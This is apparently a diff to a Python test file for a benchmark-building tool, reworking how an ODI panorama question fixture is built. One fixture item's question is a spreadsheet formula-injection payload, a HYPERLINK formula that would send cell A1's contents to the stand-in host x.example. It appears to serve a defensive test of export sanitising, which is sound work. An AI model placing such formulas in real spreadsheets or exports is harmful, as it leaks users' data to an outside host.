@@ -15,7 +15,7 @@ import pytest
 from model_server import ScriptedModel
 from test_coco_stage import write_split
 from test_eval import viewspatial_build
-from test_odi_questions import CENSUS, FACTS
+from test_odi_questions import candidates
 
 from benchfoundry.configs.coco import CocoConfig
 from benchfoundry.configs.loader import load_config
@@ -27,11 +27,16 @@ from benchfoundry.flows.build import build
 from benchfoundry.flows.cli import main
 from benchfoundry.tasks.common import review
 from benchfoundry.tasks.common.model_client import ModelClient, ModelError, user_message
-from benchfoundry.tasks.odi.questions import template_items
+from benchfoundry.tasks.odi.question_builder import items_of
 from benchfoundry.tasks.odi.sphere_images import write_image
 from benchfoundry.tasks.viewspatial.coco_stage import split_items
 
 KEY = "sk-test-0123456789abcdefSECRET"
+
+
+def odi_items() -> list[dict]:
+    """The closed and open items of the ODI question tests' room."""
+    return [item for c in candidates() for item in items_of(c, "room", "odi/panoramas/room.png", 3, "labels")]
 
 
 def files_under(folder: Path) -> set[Path]:
@@ -173,7 +178,7 @@ def test_redaction_hides_every_credential_shape_and_keeps_ordinary_text(monkeypa
 
 @pytest.fixture
 def items() -> list[dict]:
-    made = template_items("room", "odi/panoramas/room.png", FACTS, seed=3, census=CENSUS)
+    made = odi_items()
     made[0] = {**made[0], "question": '=HYPERLINK("http://x.example/?"&A1,"click")'}
     made[1] = {**made[1], "options": ["-1 m", *made[1]["options"][1:]], "answer": "-1 m", "form": "closed"}
     return made
